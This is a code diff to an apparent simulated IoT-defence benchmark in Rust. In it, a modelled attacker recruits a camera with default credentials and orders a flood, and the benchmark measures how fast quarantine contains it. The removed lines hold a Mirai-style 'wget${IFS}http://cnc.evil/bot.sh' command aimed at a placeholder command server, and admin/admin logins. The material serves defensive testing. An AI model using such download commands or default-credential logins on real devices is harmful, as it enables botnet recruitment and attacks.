@@ -11,10 +11,11 @@
 //! arbitrary victims are already stopped by the allowlist itself; see the
 //! integration tests). Only the quarantine stops this one.
 
+use xlf_attacks::mirai::recruit_login;
 use xlf_bench::print_table;
 use xlf_core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf_device::{SensorKind, VulnSet, Vulnerability};
-use xlf_simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};
+use xlf_simnet::{Context, Duration, Kind, Medium, Node, NodeId, Packet, SimTime, TimerId};
 
 /// Attacker that recruits the camera and immediately orders a sustained
 /// flood — so containment speed is what decides the damage.
@@ -29,22 +30,15 @@ impl Node for FastAttacker {
     }
     fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, tag: u64) {
         if tag == 1 {
-            let login = Packet::new(
-                ctx.id(),
-                self.gateway,
-                "login",
-                b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-            )
-            .with_meta("device", "cam")
-            .with_meta("user", "admin")
-            .with_meta("pass", "admin");
+            let login = recruit_login(ctx.id(), self.gateway, "cam");
             ctx.send(self.gateway, login);
             ctx.set_timer(Duration::from_millis(500), 2);
         } else {
-            let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
-                .with_meta("device", "cam")
-                .with_meta("target", &self.flood_target.raw().to_string())
-                .with_meta("count", "5000");
+            let kind = Kind::AttackCmd {
+                target: self.flood_target,
+                count: 5000,
+            };
+            let order = Packet::new(ctx.id(), self.gateway, kind, Vec::new()).with_device("cam");
             ctx.send(self.gateway, order);
         }
     }
@@ -67,8 +61,9 @@ fn run(response_delay: Duration) -> (u64, Option<Duration>) {
     }));
     home.net
         .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
-    let (tap, records) =
-        xlf_simnet::observer::RecordingTap::filtered(move |p| p.kind == "ddos" && p.dst == cloud);
+    let (tap, records) = xlf_simnet::observer::RecordingTap::filtered(move |p| {
+        p.kind == Kind::Ddos && p.dst == cloud
+    });
     home.net.add_tap(Box::new(tap));
     home.net.run_until(SimTime::from_secs(300));
     let records = records.borrow();
